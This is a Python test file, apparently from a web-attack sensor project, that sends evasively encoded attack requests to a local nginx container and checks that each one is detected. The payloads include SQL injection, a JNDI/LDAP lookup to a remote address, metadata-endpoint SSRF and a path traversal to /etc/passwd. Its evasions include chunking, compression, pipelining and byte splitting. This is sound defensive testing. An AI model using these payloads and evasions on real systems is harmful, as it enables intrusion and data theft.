"""Ways to hide a web attack from whoever reads the bytes (ATTACKS.md B16): each is found at the server all the same, as is its plain form.

DNS over TCP is in test_dns.py; a name instead of an address, and an address instead of a name, are rows here; what is hidden by TLS is in the tests of TLS.
"""
import base64
import contextlib
import gzip
import pathlib
import subprocess
import sys
import urllib.parse
import zlib

import central_env
import pytest
from docker_env import system_env, wait_for

REPO = pathlib.Path(__file__).resolve().parents[2]
sys.path.insert(0, str(REPO / "tests" / "web"))

import crs_live  # noqa: E402

SQL = "1 UNION SELECT password FROM users"
FIELDS = "Host: shop.example\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n"
FORM = FIELDS + "Content-Type: application/x-www-form-urlencoded\r\n"


def get(path, value=SQL, fields=FIELDS):
    return f"GET {path}?q={urllib.parse.quote(value)} HTTP/1.1\r\n{fields}\r\n".encode()


def post(path, body, fields):
    return f"POST {path} HTTP/1.1\r\n{FORM}{fields}\r\n".encode() + body


def form(value=SQL):
    return ("q=" + urllib.parse.quote(value)).encode()


def chunked(body, size):
    return b"".join(b"%x\r\n%s\r\n" % (len(body[i:i + size]), body[i:i + size]) for i in range(0, len(body), size)) + b"0\r\n\r\n"


def length(body):
    return f"Content-Length: {len(body)}\r\n"


def multipart(value):
    return ("--x\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n" + value + "\r\n--x--\r\n").encode()


HARMLESS = b"GET /about.html HTTP/1.1\r\n" + FIELDS.encode() + b"\r\n"
ZIPPED, DEFLATED, PARTS = gzip.compress(form()), zlib.compress(form()), multipart(SQL)
JSON = b'{"q": "1 \\u0055NION SELECT password FROM users"}'

# path → (class of the finding, pieces that are sent one after the other)
EVASIONS = {
    "/plain": ("sqli", [get("/plain")]),
    "/bytewise": ("sqli", [bytes([b]) for b in get("/bytewise")]),
    "/torn": ("sqli", [get("/torn")[:20], get("/torn")[20:]]),
    "/pipelined": ("sqli", [HARMLESS * 8 + get("/pipelined")]),
    "/behind-a-body": ("sqli", [post("/about.html", b"a=1", length(b"a=1")) + get("/behind-a-body")]),
    "/torn-body": ("sqli", [post("/torn-body", b"", length(form())), form()[:9], form()[9:]]),
    "/chunked": ("sqli", [post("/chunked", chunked(form(), 3), "Transfer-Encoding: chunked\r\n")]),
    "/chunked-torn": ("sqli", [post("/chunked-torn", b"", "Transfer-Encoding: chunked\r\n"), *(chunked(form(), 5)[i:i + 4] for i in range(0, len(chunked(form(), 5)), 4))]),
    "/zipped": ("sqli", [post("/zipped", ZIPPED, "Content-Encoding: gzip\r\n" + length(ZIPPED))]),
    "/deflated": ("sqli", [post("/deflated", DEFLATED, "Content-Encoding: deflate\r\n" + length(DEFLATED))]),
    "/zipped-chunked": ("sqli", [post("/zipped-chunked", chunked(ZIPPED, 7), "Content-Encoding: gzip\r\nTransfer-Encoding: chunked\r\n")]),
    "/parts": ("sqli", [f"POST /parts HTTP/1.1\r\n{FIELDS}Content-Type: multipart/form-data; boundary=x\r\n{length(PARTS)}\r\n".encode() + PARTS]),
    "/json": ("sqli", [f"POST /json HTTP/1.1\r\n{FIELDS}Content-Type: application/json\r\n{length(JSON)}\r\n".encode() + JSON]),
    "/field": ("java", [get("/field", "a", FIELDS + "X-Api: ${${lower:j}ndi:ldap://192.0.2.7/a}\r\n")]),
    "/decimal-address": ("rfi", [get("/decimal-address", "http://2852039166/latest/meta-data/")]),
    "/mapped-address": ("rfi", [get("/mapped-address", "http://[::ffff:a9fe:a9fe]/latest/meta-data/")]),
    "/climbing": ("rce", [get("/climbing", "..%2f..%2f..%2fetc%2fpasswd")]),
    "/unix-socket": ("sqli", [get("/unix-socket")]),
}
SENDER = """
import base64, json, socket, sys, time
for line in sys.stdin:
    one = json.loads(line)
    s = socket.create_connection(("127.0.0.1", one["port"]), timeout=20)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    for piece in one["pieces"]:
        s.sendall(base64.b64decode(piece))
        time.sleep(0.002)
    data = b""
    while data.count(b"HTTP/1.1 ") < one["answers"]:
        more = s.recv(65536)
        if not more:
            break
        data += more
    s.close()
    print(data.count(b"HTTP/1.1 200"), flush=True)
"""


@pytest.fixture(scope="module")
def sensor(build, docker, central, backend):
    with central_env.connected_sensor(build, docker, central, backend, web=True) as s:
        yield s


@pytest.fixture(scope="module")
def front(docker, sensor):
    if not crs_live.installed("nginx"):
        pytest.skip("nginx is not installed")
    with contextlib.closing(crs_live.Front(docker, "nginx", labels=())) as f:
        yield f


def found(root, front):
    answer = root.get("/api/v1/findings?" + urllib.parse.urlencode({"limit": 500, "kind": "web", "container": front.name}))
    assert answer.status == 200, answer
    return {(f["output_fields"]["web.path"], f["output_fields"]["web.class"]): f["output_fields"] for f in answer.json["findings"] if f["rule"].startswith("Web attack:")}


def test_hidden_attacks_are_found(root, front, sensor):
    lines = ""
    for path, (_, pieces) in EVASIONS.items():
        answers = 9 if path == "/pipelined" else 2 if path == "/behind-a-body" else 1
        lines += '{"port": %d, "answers": %d, "pieces": %s}\n' % (front.port, answers, str([base64.b64encode(p).decode() for p in pieces]).replace("'", '"'))
    out = subprocess.run([*front.net, "/usr/bin/python3", "-c", SENDER], input=lines, capture_output=True, text=True, timeout=120, env=system_env())
    answered = [int(n) for n in out.stdout.split()]
    assert len(answered) == len(EVASIONS) and all(answered), f"expected all to be answered 200, saw {dict(zip(EVASIONS, answered))} {out.stderr}"
    wanted = {(path, klass) for path, (klass, _) in EVASIONS.items()}
    wait_for(lambda: (wanted <= set(found(root, front)), (sorted(wanted - set(found(root, front))), sorted(found(root, front)), sensor.status()["web"])), 30, "all are found")
    got = found(root, front)
    assert all(got[w]["web.status"] == 200 for w in wanted), got
    assert not [path for path, _ in got if path == "/about.html"], got


def test_attack_in_http2_is_found(root, front):
    if not pathlib.Path("/usr/bin/curl").exists():
        pytest.skip("curl is not installed")
    out = subprocess.run([*front.net, "/usr/bin/curl", "-sS", "--http2-prior-knowledge", "-d", form().decode(), "-w", " %{http_version} %{http_code}", f"http://127.0.0.1:{crs_live.FRONT_H2}/streams"],
                         capture_output=True, text=True, timeout=60, env=system_env())
    assert out.stdout == "taken 2 200", (out.stdout, out.stderr)
    wait_for(lambda: (("/streams", "sqli") in found(root, front), sorted(found(root, front))), 30, "it is found")
